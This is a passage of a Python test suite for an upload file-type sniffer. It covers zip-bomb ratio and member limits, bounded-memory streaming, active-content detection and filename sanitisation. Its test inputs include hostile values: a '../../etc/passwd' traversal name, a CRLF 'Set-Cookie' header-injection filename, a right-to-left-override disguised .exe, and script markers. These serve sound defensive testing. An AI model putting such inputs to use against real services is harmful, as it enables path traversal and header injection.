    # When it is checked, Then it is refused once the ratio is exceeded, not at the end
    assert check("dossier.zip", data).reason is Refusal.ZIP_TOO_COMPLEX
    bound = sniff_module._ZIP_RATIO_ALLOWANCE + sniff_module.MAX_ZIP_RATIO * len(data)
    assert inflated <= bound + sniff_module._INFLATE_CHUNK
    assert inflated < 32 * MiB
    # And a looser ratio lets it through: the ratio is what refused it
    monkeypatch.undo()
    assert check("dossier.zip", data, max_zip_ratio=2000).kind is FileKind.ZIP


def test_members_are_counted_as_they_stream_by() -> None:
    data = zip_of(*[(f"p{i}.txt", TXT) for i in range(6)])
    sniffer = TypeSniffer("dossier.zip", max_zip_members=5)
    sniffer.feed(data[: data.index(b"PK\x01\x02")])  # the local headers only

    verdict = sniffer.early_verdict()
    assert verdict is not None and verdict.reason is Refusal.ZIP_TOO_COMPLEX


def test_32_mib_deflated_member_is_checked_in_bounded_memory() -> None:
    # Given an archive streamed as it is written: 32 MiB of CSV lines in one member
    rng = random.Random(5)
    block = b"".join(
        b"%d;Dupont;%d,%02d\n" % (rng.randrange(10**12), i, i % 100) for i in range(40_000)
    )

    def archive() -> Iterator[bytes]:
        sink = Unseekable()
        with (
            zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED) as out,
            out.open("suivi.csv", "w") as member,
        ):
            for _ in range(32 * MiB // len(block)):
                member.write(block)
                yield bytes(sink.data)
                sink.data.clear()
        yield bytes(sink.data)

    tracemalloc.start()
    try:
        sniffer = TypeSniffer("dossier.zip")
        held = 0
        for chunk in archive():
            sniffer.feed(chunk)
            held = max(held, sniffer.buffered_bytes)
        result = sniffer.finish()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert result.kind is FileKind.ZIP
    assert held <= TAIL_SIZE + 2 * HEAD_SIZE
    assert peak < 8 * MiB


# --- streaming: markers across chunks, early verdicts ---------------------------------


@pytest.mark.parametrize(
    ("name", "marker", "reason"),
    [
        ("suivi.csv", b"<script>", Refusal.ACTIVE_CONTENT),
        ("suivi.csv", b"javascript:", Refusal.ACTIVE_CONTENT),
        ("flux.xml", b'<h:p xmlns:h="http://www.w3.org/1999/xhtml">', Refusal.ACTIVE_CONTENT),
        ("suivi.csv", b"\x00", Refusal.TYPE_REFUSED),
    ],
)
@pytest.mark.parametrize("chunking", CHUNKINGS)
def test_text_after_the_head_is_scanned_across_chunk_boundaries(
    name: str, marker: bytes, reason: Refusal, chunking: str
) -> None:
    # Given a marker well after the head, straddling chunk boundaries
    line = b"<ligne>Dupont;12,50</ligne>\n" if name.endswith(".xml") else b"Dupont;12,50\n"
    body = line * (HEAD_SIZE // len(line) + 500)
    clean = (b"<flux>\n" + body + b"</flux>\n") if name.endswith(".xml") else body
    assert check(name, clean, "random").ok
    at = len(clean) - 10 * len(line) + 3
    data = clean[:at] + marker + clean[at:]

    # When fed in chunks, Then it is refused
    if chunking == "bytes":
        data = data[-(HEAD_SIZE + 1000) :]  # keep the byte-by-byte case quick
        data = (b"<flux>\n" if name.endswith(".xml") else b"") + data[data.index(b"\n") + 1 :]
    assert check(name, data, chunking).reason is reason


def test_refused_name_is_known_before_any_byte() -> None:
    sniffer = TypeSniffer("setup.exe")

    assert (verdict := sniffer.early_verdict()) is not None
    assert verdict.reason is Refusal.TYPE_REFUSED
    assert sniffer.finish() == verdict


def test_mismatched_content_is_refused_as_soon_as_the_head_is_full() -> None:
    # Given a large PDF declared as a JPEG
    sniffer = TypeSniffer("scan.jpg")
    data = PDF + bytes(2 * HEAD_SIZE)

    # When only part of the head has arrived, Then nothing is decided yet
    sniffer.feed(data[: HEAD_SIZE - 1])
    assert sniffer.early_verdict() is None

    # When the head is full, Then the refusal is known before the rest is sent
    sniffer.feed(data[HEAD_SIZE - 1 : HEAD_SIZE + 10])
    verdict = sniffer.early_verdict()
    assert verdict is not None and verdict.reason is Refusal.EXTENSION_MISMATCH
    sniffer.feed(data[HEAD_SIZE + 10 :])
    assert sniffer.finish() == verdict


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("rapport.pdf", PDF + bytes(HEAD_SIZE)),
        ("suivi.csv", CSV_UTF8 * (HEAD_SIZE // len(CSV_UTF8) + 10)),
        ("dossier.zip", zip_of(("annexe.pdf", PDF + bytes(HEAD_SIZE)), stored=True)),
    ],
)
def test_acceptable_stream_has_no_early_verdict(name: str, data: bytes) -> None:
    sniffer = TypeSniffer(name)
    for chunk in chunks_of(data, "random"):
        sniffer.feed(chunk)
        assert sniffer.early_verdict() is None
    assert sniffer.finish().ok


def test_zip_declared_as_pdf_is_refused_from_its_head() -> None:
    sniffer = TypeSniffer("rapport.pdf")
    sniffer.feed(zip_of(("a.pdf", PDF + bytes(HEAD_SIZE)), stored=True)[: HEAD_SIZE + 1])

    verdict = sniffer.early_verdict()
    assert verdict is not None and verdict.reason is Refusal.EXTENSION_MISMATCH


def test_sniff_stops_reading_at_the_first_certain_refusal() -> None:
    consumed = 0

    def stream() -> Iterator[bytes]:
        nonlocal consumed
        for _ in range(1000):
            consumed += 1
            yield b"<html><body>" + b"x" * 10_000

    result = sniff("page.txt", stream())

    assert result.reason is Refusal.ACTIVE_CONTENT
    assert consumed < 10


def test_sniff_returns_the_verdict_on_a_whole_stream() -> None:
    assert sniff("courrier.docx", chunks_of(docx(), "random")).kind is FileKind.DOCX


def test_sniffer_is_finished_once() -> None:
    sniffer = TypeSniffer("rapport.pdf")
    sniffer.feed(PDF)
    first = sniffer.finish()

    assert sniffer.finish() is first
    with pytest.raises(RuntimeError):
        sniffer.feed(b"more")


def test_chunks_may_be_bytearrays_memoryviews_or_8_mib() -> None:
    big = b"nom;montant\n" * (8 * MiB // 12)
    sniffer = TypeSniffer("suivi.csv")
    sniffer.feed(bytearray(big))
    sniffer.feed(memoryview(big))
    sniffer.feed(b"")

    assert sniffer.finish().kind is FileKind.CSV
    assert sniffer.size == 2 * len(big)


def test_buffer_sizes_must_leave_room_for_the_checks() -> None:
    with pytest.raises(ValueError, match="head_size"):
        TypeSniffer("a.pdf", head_size=512)
    with pytest.raises(ValueError, match="tail_size"):
        TypeSniffer("a.zip", tail_size=100)


# --- memory stays bounded --------------------------------------------------------------


def _peak_while_feeding(name: str, first: bytes, chunk: bytes, count: int) -> tuple[int, int]:
    tracemalloc.start()
    try:
        sniffer = TypeSniffer(name)
        sniffer.feed(first)
        for _ in range(count):
            sniffer.feed(chunk)
        held = sniffer.buffered_bytes
        sniffer.finish()
        return tracemalloc.get_traced_memory()[1], held
    finally:
        tracemalloc.stop()


def test_300_mib_pdf_stream_is_checked_in_bounded_memory() -> None:
    chunk = bytes(range(256)) * (MiB // 256)

    peak, held = _peak_while_feeding("rapport.pdf", PDF, chunk, 300)

    assert held <= HEAD_SIZE + HEAD_SIZE // 4
    assert peak < 5 * MiB


def test_300_mib_zip_stream_keeps_only_its_tail() -> None:
    chunk = bytes(range(256)) * (MiB // 256)

    peak, held = _peak_while_feeding("dossier.zip", b"PK\x03\x04", chunk, 300)

    assert held <= TAIL_SIZE + HEAD_SIZE + HEAD_SIZE // 4
    assert peak < 5 * MiB


def test_64_mib_text_stream_is_scanned_in_bounded_memory() -> None:
    chunk = b"Dupont;Jean;12,50;<b>;http://example.org\n" * (MiB // 41)

    peak, held = _peak_while_feeding("suivi.csv", b"nom;montant\n", chunk, 64)

    assert held <= HEAD_SIZE + HEAD_SIZE // 4
    assert peak < 5 * MiB


# --- file names ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("rapport.pdf", "rapport.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\agent\\Documents\\lettre.pdf", "lettre.pdf"),
        ('a"b;c\r\nSet-Cookie: x', "a_b;c Set-Cookie_ x"),
        ("  mon   \t rapport \u00a0 final.pdf  ", "mon rapport final.pdf"),
        ("....", "fichier"),
        ("", "fichier"),
        (" . / .. ", "fichier"),
        ("\x00\x01\x7f", "fichier"),
        (".bashrc", "bashrc"),
        ("rapport.pdf. . ", "rapport.pdf"),
        ("re\u0301sume\u0301.pdf", "r\u00e9sum\u00e9.pdf"),
        ("facture\u202efdp.exe", "facturefdp.exe"),
        ("CON.pdf", "_CON.pdf"),
        ("a<b>c|d?e*f.pdf", "a_b_c_d_e_f.pdf"),
        ("rapport 📄 2024.pdf", "rapport 📄 2024.pdf"),
        ("bad\udcffsurrogate.pdf", "badsurrogate.pdf"),
    ],
)
def test_safe_filename(name: str, expected: str) -> None:
    assert safe_filename(name) == expected


@pytest.mark.parametrize("stem", ["a" * 1000, "é" * 400, "📄" * 300, "a" * 149])
def test_long_file_name_is_shortened_keeping_its_extension(stem: str) -> None:
    safe = safe_filename(stem + ".pdf")

    assert safe.endswith(".pdf") and len(safe) > 4
    assert len(safe) <= 150
    assert len(safe.encode()) <= 255


def test_content_disposition_of_a_hostile_name_cannot_be_broken() -> None:
    value = content_disposition('a"b;c\r\nSet-Cookie: x')

    assert value == (
        "attachment; filename=\"a_b_c Set-Cookie_ x\"; filename*=UTF-8''a_b%3Bc%20Set-Cookie_%20x"
    )


def test_content_disposition_gives_an_ascii_fallback_and_the_utf8_name() -> None:
    assert content_disposition("re\u0301sume\u0301 d'e\u0301te\u0301.pdf") == (
        'attachment; filename="resume d\'ete.pdf"; '
        "filename*=UTF-8''r%C3%A9sum%C3%A9%20d%27%C3%A9t%C3%A9.pdf"
    )
    assert content_disposition("📄📄.pdf").startswith('attachment; filename="fichier.pdf";')
    assert content_disposition("").startswith('attachment; filename="fichier";')


def test_content_disposition_round_trips_through_a_mime_parser() -> None:
    rng = random.Random(42)
    alphabet = "abcdéèçàœ ._-\"'\\/;:%*?<>|\r\n\t\x00\x1b\u202e\u200d\u00a0📄한글🇫🇷"
    for _ in range(300):
        name = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 200)))
        value = content_disposition(name)
        safe = safe_filename(name)

        assert safe and len(safe) <= 150 and len(safe.encode()) <= 255
        assert safe_filename(safe) == safe  # the service stores the safe name and sniffs it
        assert not any(c in safe for c in "/\\\r\n\x00\x1b\u202e")
        assert "\r" not in value and "\n" not in value and value.isascii()
        # An RFC 6266 agent reads filename*; an old one reads only the quoted ASCII fallback.
        assert parse_options_header(value) == ("attachment", {"filename": safe})
        plain = value.split("; filename*=", 1)[0]
        _, options = parse_options_header(plain)
        assert options["filename"].isascii() and options["filename"].strip()
        assert not any(c in options["filename"] for c in '"\\;%')
        message = email.message.Message()
        message["Content-Disposition"] = plain
        assert message.get_filename() == options["filename"]


def test_declared_extension_is_read_from_the_safe_name() -> None:
    assert check("lettre.PDF. ", PDF).ok
    assert check("lettre\u202efdp.exe", PDF).reason is Refusal.TYPE_REFUSED


# --- framework-free --------------------------------------------------------------------


def test_sniff_module_imports_only_the_standard_library() -> None:
    tree = ast.parse(Path(sniff_module.__file__).read_text(encoding="utf-8"))
    imported = {
        alias.name.split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    } | {
        node.module.split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module
    }

    assert imported <= set(sys.stdlib_module_names) | {"__future__"}
